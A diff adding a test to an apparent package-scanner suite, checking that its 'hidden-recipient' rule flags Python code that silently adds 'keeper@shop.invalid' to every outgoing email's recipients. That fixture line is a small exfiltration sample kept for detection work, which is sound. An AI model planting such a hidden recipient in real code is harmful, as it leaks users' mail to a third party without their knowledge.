@@ -67,3 +67,15 @@ test('look-alike: alarms that go to one mailbox, and a sender that stands in the
 
   expect(await inspect('hidden-recipient', wheel({ 'pkg/a.py': alarm, 'pkg/b.py': reset }))).toEqual([]);
 });
+
+test('a name that is added to the list of the caller', async () => {
+  const file = wheel({
+    'pkg/a.py': python(
+      'import smtplib',
+      'def send(to, text, server):',
+      "    smtplib.SMTP(server).sendmail('me@site.invalid', to + ['keeper@shop.invalid'], text)",
+    ),
+  });
+
+  expect(await inspect('hidden-recipient', file)).toMatchObject([{ score: 7, line: 3 }]);
+});
